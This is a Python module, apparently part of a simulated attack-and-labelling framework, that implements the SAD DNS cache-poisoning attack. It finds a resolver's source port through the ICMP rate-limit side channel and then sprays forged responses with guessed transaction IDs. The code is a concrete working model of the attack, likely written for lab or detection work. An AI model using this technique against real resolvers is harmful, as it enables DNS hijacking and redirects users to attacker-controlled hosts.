"""The port is found by what the resolver's host no longer says of closed ones, then guessed at (SAD DNS, 2020)."""

import socket
import time

from .. import guessing
from . import kaminsky
from ...net import ipv4
from ...packets import parse
from .racing import insist

KIND = "kaminsky"
BATCH = 50
"""Probes between two looks: Linux sends this many ICMP errors in a burst (`icmp_msgs_burst`)."""


def play(act):
    """Probes from the server's address over a range of ports, the attacker's own between them; then one port alone."""
    zone = kaminsky.zone(act)
    guesser = kaminsky.begin(act, "patient", zone)
    name = guesser.name()
    content = guesser.content(name)
    with guessing.slowed(act, guesser.server):
        asking = act.begin("patient", name)
        query = act.hear_query(guesser.server, name, "A")
        act.labels.target(parse(query).source, zone)
        scan(act, guesser, query, content)
        time.sleep(act.rng.uniform(0.005, 0.03))
        guesser.spray(query, guesser.with_hit(guessing.identifier(query), act.rng.randint(100, 250)), content)
    answer = asking()
    insist(act.evil() in answer.text, "no guess did fit", answer)
    kaminsky.victims(act, "patient", name)


def scan(act, guesser, query, content):
    """A burst over ports around the right one, every probe with a wrong ID."""
    port = parse(query).source_port
    first = max(guessing.FIRST_PORT, port - act.rng.randint(100, 350))
    ports = list(range(first, min(port + act.rng.randint(5, 60), 65_535) + 1))
    if act.rng.random() < 0.5:
        act.rng.shuffle(ports)
    right = guessing.identifier(query)
    for start in range(0, len(ports), BATCH):
        for probed in ports[start:start + BATCH]:
            guesser.spray(query, guesser.wrong(right, 1), content, [probed])
        look(act)


def look(act):
    """The attacker sends to a closed port in its own name: no error back means that others have used them up."""
    with act.network.entered("attacker"):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with sock:
        sock.sendto(b"\0", (ipv4("patient"), act.rng.randrange(2, 1000)))
